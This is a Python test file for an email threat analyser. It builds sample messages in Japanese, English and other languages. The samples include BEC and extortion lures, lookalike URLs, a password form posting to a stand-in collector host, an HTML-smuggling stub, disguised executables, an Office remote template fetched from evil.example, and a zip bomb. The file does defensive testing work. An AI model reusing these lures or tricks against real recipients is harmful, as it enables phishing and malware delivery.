"""The analyser's signals on messages built for each case, Japanese and English, and the
verdicts they add up to."""

from __future__ import annotations

import io
import zipfile

import pytest

from mailwarden.analyze.engine import analyze
from mailwarden.analyze.rules import load_rules
from mailwarden.core.errors import ConfigError
from mailwarden.core.htmltext import html_text, reader_text

from .mail import message


@pytest.fixture(scope="module")
def rules():
    return load_rules()


def codes(data, rules):
    v = analyze(data, rules)
    return v, {s["code"] for s in v.signals}


def test_ordinary_japanese_business_mail_is_clean(rules):
    body = (
        "山田様\n\nいつもお世話になっております。\n来週の打ち合わせの件、資料を添付いたします。\n"
        "よろしくお願いいたします。"
    )
    v, _ = codes(message(body, charset="iso-2022-jp"), rules)
    assert v.verdict == "clean", v.signals


def test_bec_bank_change_with_freemail_reply(rules):
    body = "経理部 御中\n至急のお願いです。取引先の振込先の変更がありました。本件は内密に進めてください。"
    v, found = codes(
        message(
            body, from_="社長 山田 <ceo@example.co.jp>", reply_to="ceo.yamada@gmail.com", charset="shift_jis"
        ),
        rules,
    )
    assert {"header.reply-to-freemail", "text.payment-change", "text.secrecy", "text.urgency"} <= found
    assert v.verdict == "phishing"
    expl = {s["code"]: s["explanation"] for s in v.signals}
    assert "ceo.yamada@gmail.com" in expl["header.reply-to-freemail"]


def test_brand_lure_with_lookalike_link(rules):
    html = '<p>アカウントが一時停止されました。</p><a href="https://rakuten-co-jp.secure-login.top/">https://www.rakuten.co.jp/</a>'
    v, found = codes(
        message("本人確認をお願いします", from_="楽天カード <info@rakutten-card.com>", html=html), rules
    )
    assert {"url.text-mismatch", "brand.in-display-name", "text.account-suspension"} <= found
    assert "header.lookalike-domain" in found  # rakutten-card ~ rakuten-card
    assert v.verdict in ("phishing", "malicious")


def test_url_tricks(rules):
    body = (
        "http://192.0.2.7/login http://user@evil.example/ https://bit.ly/abc "
        "https://www.google.com/url?q=https://evil.example/x https://xn--80ak6aa92e.com/"
    )
    html = (
        '<a href="javascript:alert(1)">x</a>'
        '<form method="post" action="https://collect.example/p"><input type="password"></form>'
    )
    _, found = codes(message(body, html=html), rules)
    assert {
        "url.ip-literal",
        "url.credentials",
        "url.shortener",
        "url.open-redirect",
        "url.punycode",
        "url.script-scheme",
        "url.form-action",
    } <= found


def _zip(members, encrypted=False):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            zf.writestr(name, data)
    raw = bytearray(buf.getvalue())
    if encrypted:  # set the "encrypted" flag in every header (the content need not be real)
        i = 0
        while (i := raw.find(b"PK\x03\x04", i)) != -1:
            raw[i + 6] |= 1
            i += 4
        i = 0
        while (i := raw.find(b"PK\x01\x02", i)) != -1:
            raw[i + 8] |= 1
            i += 4
    return bytes(raw)


def test_attachments_by_content(rules):
    atts = [
        ("請求書.pdf.exe", "application/octet-stream", b"MZ\x90\x00" + b"\x00" * 100),
        ("photo.jpg", "image/jpeg", b"MZ\x90\x00"),
        ("invoice.html", "text/html", b"<html><script>var b=atob('QUJD');document.write(b)</script></html>"),
        (
            "doc.docx",
            "application/octet-stream",
            _zip([("word/document.xml", b"<w/>"), ("word/vbaProject.bin", b"x")]),
        ),
    ]
    v, found = codes(message("添付をご確認ください", attachments=atts), rules)
    assert {
        "attachment.executable",
        "attachment.double-extension",
        "attachment.html-smuggling",
        "attachment.office-macro",
    } <= found
    assert v.verdict == "malicious"
    assert all(len(a["sha256"]) == 64 for a in v.attachments)


def test_ppap_mail_is_not_phishing(rules):
    enc = _zip([("見積書.xlsx", b"x" * 100)], encrypted=True)
    body = "お世話になっております。\n見積書を送付いたします。\nパスワードは別途お送りします。"
    v, found = codes(message(body, attachments=[("見積書.zip", "application/zip", enc)]), rules)
    assert "attachment.encrypted-archive" in found
    assert v.verdict == "clean"
    second = message(
        "先ほどのファイルのパスワード: Abc12345", attachments=[("見積書.zip", "application/zip", enc)]
    )
    _, found = codes(second, rules)
    assert "attachment.password-in-body" in found


def test_encrypted_executable_inside_a_zip(rules):
    enc = _zip([("invoice.exe", b"MZ")], encrypted=True)
    _, found = codes(message("see attached", attachments=[("a.zip", "application/zip", enc)]), rules)
    assert "attachment.executable" in found


def test_recorded_authentication_results(rules):
    hdr = (
        "Authentication-Results: mx.example.co.jp; spf=fail smtp.mailfrom=evil.example; "
        "dkim=none; dmarc=fail header.from=example-bank.jp\r\n"
    )
    v, found = codes(message("hello", from_="Bank <info@example-bank.jp>", extra_headers=hdr), rules)
    assert {"auth.dmarc-fail", "auth.spf-fail"} <= found
    assert v.authentication["source"] == "recorded by mx.example.co.jp"
    assert v.authentication["header"].startswith("Authentication-Results: mx.example.co.jp;")


def test_untrusted_authserv_id_is_ignored(tmp_path):
    f = tmp_path / "rules.yaml"
    f.write_text("trusted_authserv_ids: [mx.example.co.jp]\n", encoding="utf-8")
    rules = load_rules(f)
    hdr = "Authentication-Results: attacker.example; dmarc=pass header.from=example.co.jp\r\n"
    v = analyze(message("hi", extra_headers=hdr), rules)
    assert v.authentication["source"] is None


def test_rules_override_and_errors(tmp_path):
    f = tmp_path / "rules.yaml"
    f.write_text("weights: {text.urgency: 9}\nthresholds: {phishing: 8}\n", encoding="utf-8")
    rules = load_rules(f)
    assert rules.weight("text.urgency") == 9 and rules.thresholds["phishing"] == 8
    v = analyze(message("至急ご対応ください"), rules)
    assert v.verdict == "phishing" and v.score >= 9
    f.write_text("weights: {text.no-such: 1}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"text\.no-such"):
        load_rules(f)
    f.write_text("colour: blue\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="colour"):
        load_rules(f)


def test_garbage_never_crashes(rules):
    for data in (
        b"",
        b"\x00\xff" * 1000,
        b"From: \r\n\r\n",
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n",
    ):
        v = analyze(data, rules)
        assert v.verdict in ("clean", "spam", "suspicious", "phishing", "malicious")


def test_search_boxes_and_same_name_domains_are_not_traps(rules):
    # A newsletter's GET search form, a brand's name on its own other suffix (verizon.net),
    # brand names inside ordinary words (enigmail, applecore): no signal.
    html = (
        '<form action="https://www.search.example/q"><input name="q"></form>'
        '<a href="https://enigmail.mozdev.org/">enigmail</a><a href="https://applecore.example.com/">x</a>'
    )
    _, found = codes(message("newsletter", from_="Nick <nick@verizon.net>", html=html), rules)
    assert not found & {"url.form-action", "url.lookalike", "header.lookalike-domain"}, found


def test_combosquatting_on_word_boundaries(rules):
    body = "https://smbc-card-security.example/ https://amazon-co-jp.support-center.example/"
    _, found = codes(message(body), rules)
    assert "url.lookalike" in found


def test_encrypted_office_file_read_with_msoffcrypto(rules):
    from msoffcrypto.format.ooxml import OOXMLFile

    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    )
    plain = _zip([("[Content_Types].xml", types), ("word/document.xml", b"<w/>")])
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(plain)).encrypt("Passw0rd", out)
    v, found = codes(
        message("資料です", attachments=[("資料.docx", "application/octet-stream", out.getvalue())]), rules
    )
    assert "attachment.encrypted-archive" in found
    assert v.verdict == "clean"  # a password-protected document alone is everyday Japanese business mail


def test_a_broken_ole_file_is_reported_not_fatal(rules):
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    _, found = codes(message("x", attachments=[("a.doc", "application/msword", data)]), rules)
    assert "analysis.uninspected" in found


@pytest.mark.parametrize(
    ("text", "fires"),
    [
        ("Please vеrіfy yоur wаllеt today", True),  # Cyrillic е, і, о, а
        ("L仂仂king f仂r L仂v亠? Review your matches", True),
        ("Ꮮеdgеr security notice", True),
        ("A社B部長の山田です。Amazonギフトの件、Wi-Fiルーターの件", False),
        ("Plain English mail about a meeting", False),
        ("Сегодня встреча в 10 часов", False),  # Cyrillic text, no Latin inside its words
    ],
)
def test_homoglyph_words(rules, text, fires):
    _, found = codes(message(text, subject="Notice"), rules)
    assert ("text.homoglyph" in found) is fires


def test_advance_fee_crypto_and_random_freemail_sender(rules):
    v, found = codes(
        message(
            "I have US$ 9.5 million in a dormant fund to transfer into your account as next of kin.",
            from_="Mr Omar <mromarousman@gmail.com>",
        ),
        rules,
    )
    assert "text.advance-fee" in found and v.verdict != "clean"
    _, found = codes(
        message("Claim your airdrop now, your BTC is waiting", from_="x <fidhkwwjy@gmail.com>"), rules
    )
    assert {"text.crypto", "header.random-sender"} <= found
    _, found = codes(message("hello", from_="Tanaka <tanaka.taro@gmail.com>"), rules)
    assert "header.random-sender" not in found


def test_disguised_text_extortion_and_random_attachment_names(rules):
    _, found = codes(
        message("g r e e t i n g s ! i have gained access to your device", subject="Notice"), rules
    )
    assert {"text.obfuscation", "text.extortion"} <= found
    _, found = codes(message("ok", subject="𝗲𝗯𝗮𝘆 account notice"), rules)
    assert "text.obfuscation" in found
    _, found = codes(message("p͓̽l͓̽e͓̽a͓̽s͓̽e͓̽ confirm", subject="Notice"), rules)
    assert "text.obfuscation" in found
    _, found = codes(message("E X T E N D E D hours this week", subject="Notice"), rules)
    assert "text.obfuscation" not in found  # spaced capitals are a heading
    atts = [
        ("Vl6s3kCIKaUvwaUAeY.pdf", "application/pdf", b"%PDF-1.4"),
        ("見積書.pdf", "application/pdf", b"%PDF-1.4"),
    ]
    v, found = codes(message("see attached", attachments=atts), rules)
    assert [s["evidence"]["name"] for s in v.signals if s["code"] == "attachment.random-name"] == [
        "Vl6s3kCIKaUvwaUAeY.pdf"
    ]


def test_legal_threats_in_japanese_and_portuguese(rules):
    _, found = codes(message("期限までに納付がない場合、財産の差し押さえとなります。"), rules)
    assert "text.legal-threat" in found
    _, found = codes(message("Intimação: protesto em cartório", subject="Aviso"), rules)
    assert "text.legal-threat" in found


def test_received_path_checks(rules):
    hdrs = (
        "Received: from mx.example.co.jp (mx.example.co.jp [203.0.113.5]) by mx.receiver.example;"
        " Fri, 27 Nov 2026 10:00:00 +0900\r\n"
        "Received: from WIN-1PE7UCI300G (unknown [45.40.96.224]) by mx.example.co.jp;"
        " Mon, 23 Nov 2026 10:00:00 +0900\r\n"
        "Received: from localhost (localhost [127.0.0.1]) by mx.example.co.jp;"
        " Fri, 27 Nov 2026 09:59:00 +0900\r\n"
    )
    v, found = codes(message("hello", extra_headers=hdrs), rules)
    helos = [s["evidence"]["helo"] for s in v.signals if s["code"] == "header.received-helo"]
    assert helos == ["WIN-1PE7UCI300G"]  # localhost from loopback is local injection, fine
    assert "header.received-time" in found


def test_a_50_mb_attachment_and_a_zip_bomb_stay_bounded(rules):
    import time
    import zipfile as zf_mod

    big = b"%PDF-1.4\n" + b"0" * (50 * 1024 * 1024)
    bomb = io.BytesIO()
    with zf_mod.ZipFile(bomb, "w", zf_mod.ZIP_DEFLATED) as zf:
        zf.writestr("huge.txt", b"\x00" * (300 * 1024 * 1024))
    t = time.perf_counter()
    v, _ = codes(
        message(
            "files",
            attachments=[
                ("big.pdf", "application/pdf", big),
                ("bomb.zip", "application/zip", bomb.getvalue()),
            ],
        ),
        rules,
    )
    assert time.perf_counter() - t < 60  # a guard against hangs, not a speed claim
    reasons = " | ".join(s["evidence"]["reason"] for s in v.signals if s["code"] == "analysis.uninspected")
    # the attachment is decoded from the raw bytes in blocks (core/hollow.py): hashed whole,
    # its first 20 MB inspected, and the rest said to be uninspected
    assert "big.pdf: larger than the inspection limit (first 20 MB read)" in reasons
    assert "message over" not in reasons
    assert "big.pdf" in {a["filename"] for a in v.attachments}


def test_zip_bomb_member_is_not_opened(rules):
    import zipfile as zf_mod

    bomb = io.BytesIO()
    with zf_mod.ZipFile(bomb, "w", zf_mod.ZIP_DEFLATED) as zf:
        zf.writestr("huge.txt", b"\x00" * (300 * 1024 * 1024))
        inner = io.BytesIO()
        with zf_mod.ZipFile(inner, "w") as z2:
            z2.writestr("a.exe", b"MZ")
        zf.writestr("nested.zip", inner.getvalue())
    v, found = codes(message("files", attachments=[("bomb.zip", "application/zip", bomb.getvalue())]), rules)
    reasons = " | ".join(s["evidence"]["reason"] for s in v.signals if s["code"] == "analysis.uninspected")
    assert "too large or too compressed" in reasons
    assert "attachment.executable" in found  # the nested archive is still looked into


def test_kit_made_senders_and_subdomains(rules):
    _, found = codes(message("offer", from_="AAA <new_offre_1_87710@b3ila1.aboutline.example>"), rules)
    assert {"header.random-sender", "header.random-domain"} <= found
    _, found = codes(message("hi", from_="Jane <jane.smith@news.example.com>"), rules)
    assert not found & {"header.random-sender", "header.random-domain"}


def _qr_png(text: str) -> bytes:
    import zxingcpp
    from PIL import Image

    img = memoryview(zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode).to_image(scale=4))
    buf = io.BytesIO()
    Image.frombytes("L", (img.shape[1], img.shape[0]), img.tobytes()).save(buf, "PNG")
    return buf.getvalue()


def test_links_in_qr_codes_are_read_and_checked(rules):
    atts = [("scan-me.png", "image/png", _qr_png("https://rakuten-card.co.jp.verify-member.example/login"))]
    v, found = codes(message("QRコードを読み取ってログインしてください", attachments=atts), rules)
    assert {"url.qr-code", "url.lookalike"} <= found
    assert any(u["kind"] == "qr" and "verify-member" in u["host"] for u in v.urls)


def test_broken_and_huge_images_are_skipped(rules):
    import struct
    import zlib

    # a PNG header claiming 100,000 x 100,000 pixels: refused before decoding
    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(ihdr)) + chunk + struct.pack(">I", zlib.crc32(chunk))
    atts = [("big.png", "image/png", png), ("broken.jpg", "image/jpeg", b"\xff\xd8\xff" + b"\x00" * 50)]
    v, found = codes(message("images", attachments=atts), rules)
    assert "url.qr-code" not in found and v.verdict in ("clean", "spam", "suspicious")


def test_configured_vip_and_own_domain(tmp_path):
    f = tmp_path / "rules.yaml"
    f.write_text(
        "own_domains: [example.co.jp]\nvips: [{name: 山田 太郎, addresses: [yamada@example.co.jp]}]\n",
        encoding="utf-8",
    )
    rules = load_rules(f)
    _, found = codes(message("お願いがあります", from_="山田 太郎 <yamada.taro@mail-ceo.example>"), rules)
    assert "header.display-name-impersonation" in found
    _, found = codes(message("お願いがあります", from_="山田 太郎 <yamada@example.co.jp>"), rules)
    assert "header.display-name-impersonation" not in found
    v, found = codes(message("請求書", from_="経理 <keiri@examp1e.co.jp>"), rules)
    assert "header.lookalike-domain" in found
    assert any(s["evidence"].get("target") == "example.co.jp" for s in v.signals)


def test_office_external_relationship(rules):
    rels = (
        b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    doc = _zip([("word/document.xml", b"<w/>"), ("word/_rels/settings.xml.rels", rels)])
    v, found = codes(message("契約書", attachments=[("契約書.docx", "application/octet-stream", doc)]), rules)
    assert "attachment.office-external" in found
    assert any("evil.example" in s["evidence"].get("target", "") for s in v.signals)


def test_letters_in_their_own_spans_are_read_as_words(rules):
    """Filter-evading mail writes every letter in its own inline element; rendered, the words
    are whole, and so the analyser reads them."""
    spelt = "".join(f"<span>{c}</span>" for c in "I gained access to your devices and recorded you")
    v, found = codes(message("", subject="Payment report", html=f"<div>{spelt}</div>"), rules)
    assert "text.extortion" in found
    phrase = next(s["evidence"]["phrase"] for s in v.signals if s["code"] == "text.extortion")
    assert "gained access to your device" in phrase  # read across the spans, as rendered
    # block elements still separate words
    assert html_text("<td>one</td><td>two</td>").split() == ["one", "two"]
    assert html_text("<p>to<b>get</b>her</p><br>x").split() == ["together", "x"]


@pytest.mark.parametrize(
    "name, fires",
    [
        ("Fatura Porto Seguro", True),
        ("Restituição de IRPF", True),
        ("請求書送付", True),
        ("Taro Yamada", False),
    ],
)
def test_freemail_account_named_as_a_bill_or_refund(rules, name, fires):
    _, found = codes(message("veja o arquivo", from_=f"{name} <xyz1234@gmail.com>"), rules)
    assert ("header.freemail-organisation" in found) is fires


@pytest.mark.parametrize(
    "subject, name, html, fires",
    [
        ('_IMP0RTANT"INFORMATI0N"', "Rewards", None, True),
        ("Your parcel", "C0NSUMER REWARDS", None, True),
        ("Meeting at 10", "Taro", '<p style="color:#FF0ACC">x</p>', False),
        ("Order B0X-12 shipped", "Shop", None, False),
    ],
)
def test_digits_standing_for_letters_in_subject_or_name(rules, subject, name, html, fires):
    _, found = codes(message("hello", subject=subject, from_=f"{name} <a@example.com>", html=html), rules)
    assert ("text.obfuscation" in found) is fires


@pytest.mark.parametrize(
    "code, subject, body, fires",
    [
        ("text.advance-fee", "Hello", "Funds owed to you: US$2,500,000.00, ready for release.", True),
        ("text.advance-fee", "Hello", "I have deposited the box; you must pick your consignment.", True),
        ("text.advance-fee", "Hello", "The consignment of spare parts arrived at the warehouse.", False),
        ("text.advance-fee", "Hello", "Please claim your consignment with the diplomat this week.", True),
        ("text.advance-fee", "Hello", "She was a victim of the Compensation Awards Program.", True),
        ("text.advance-fee", "Olá", "Os fundos de meu falecido marido serão transferidos para você.", True),
        ("text.advance-fee", "Hello", "Our 2009 budget was $2,500,000 for the new building.", False),
        ("text.advance-fee", "Hello", "The fund raised 12,000,000 yen last year.", False),
        ("text.romance", "Have sex today.", "Georgina, 28 years old, 5 min online", True),
        ("text.romance", "Hi", "Would you like to have a chat with me?", True),
        ("text.romance", "Suchst du nach lustigen Dates?", "Bitte schau dir mein Profil an", True),
        ("text.romance", "Re: policy", "Studies of why people have sex and marry differ by decade.", False),
        ("text.survey-reward", "Notice", "Answer our short survey and claim your free camping set!", True),
        ("text.survey-reward", "Umfrage", "Nimm an unserer Umfrage teil, gewinne ein Geschenkset!", True),
        ("text.survey-reward", "ご案内", "アンケートに答えた方全員にギフト券をプレゼント", True),
        ("text.survey-reward", "Notice", "The survey results are attached; response rose.", False),
        ("text.prize", "Hallo", "Nimm an unserem Gewinnspiel teil!", True),
        ("text.prize", "Hola", "Tu nombre salió para una Recompensa de Caja Misteriosa", True),
        ("text.crypto", "Your_transaction_0.7495_Bitcoin_", "When you get your money", True),
    ],
)
def test_lure_phrase_families(rules, code, subject, body, fires):
    """Advance-fee sums and phrasing, adult-dating lures, a survey that unlocks a reward, prize
    draws and words joined by underscores, with ordinary sentences that share their words."""
    _, found = codes(message(body, subject=subject), rules)
    assert (code in found) is fires


@pytest.mark.parametrize(
    "url, fires",
    [
        ("https://outook.s3.us-east-1.amazonaws.com/msn1/Cck.html", True),
        ("https://mybucket.s3.amazonaws.com/login/index.htm", True),
        ("https://storage.googleapis.com/xyz-bucket/office365.html?e=a", True),
        ("https://bafybeib.ipfs.dweb.link/", True),
        ("https://mybucket.s3.amazonaws.com/brochure.pdf", False),
        ("https://storage.googleapis.com/xyz-bucket/logo.png", False),
        ("https://ec2.amazonaws.com/page.html", False),
        ("https://www.example.com/index.html", False),
    ],
)
def test_pages_on_cloud_file_stores(rules, url, fires):
    _, found = codes(message(f"See {url}", subject="Notice"), rules)
    assert ("url.storage-page" in found) is fires


def test_hidden_salt_inside_words_is_read_past_and_reported(rules):
    """Text hidden by its style inside a word is what filters read and the reader does not:
    the analyser reads the word as shown and says what was hidden."""
    salted = (
        '<p>Your B<span style="display: none; font-size: 0px">x7q</span>anco account was '
        'sus<span style="font-size:0">zz</span>pended</p>'
    )
    v, found = codes(message("", subject="Aviso", html=salted), rules)
    assert "text.hidden-salting" in found and "text.account-suspension" in found
    assert any("x7q" in s["explanation"] for s in v.signals if s["code"] == "text.hidden-salting")
    # DLP reads hidden text too: it leaves with the mail all the same
    assert "Bx7qanco" in html_text(salted) and "Banco" in reader_text(salted)[0]
    # a hidden preheader between blocks, and styles that only look alike, are not salt
    plain = (
        '<div style="display:none">Our May news</div><p>Hello</p>'
        '<p>a<span style="border-width:0">b</span>c</p>'
    )
    _, found = codes(message("", subject="News", html=plain), rules)
    assert "text.hidden-salting" not in found


def test_a_missing_from_still_has_its_other_headers_checked(rules):
    """Missing From used to end the header checks: Reply-To, Message-ID and Date went unread."""
    raw = (
        b"To: keiri@example.co.jp\r\nSubject: =?utf-8?b?5oyv6L6844G/?=\r\n"
        b"Reply-To: ceo.office@gmail.com\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n\r\nplease reply\r\n"
    )
    _, found = codes(raw, rules)
    assert {
        "header.from-missing",
        "header.reply-to-freemail",
        "header.message-id-missing",
        "header.date-missing",
    } <= found
    with_from = raw.replace(b"To: ", b"From: Taro <taro@example.co.jp>\r\nTo: ", 1)
    _, found = codes(with_from, rules)
    assert "header.from-missing" not in found and "header.reply-to-freemail" in found
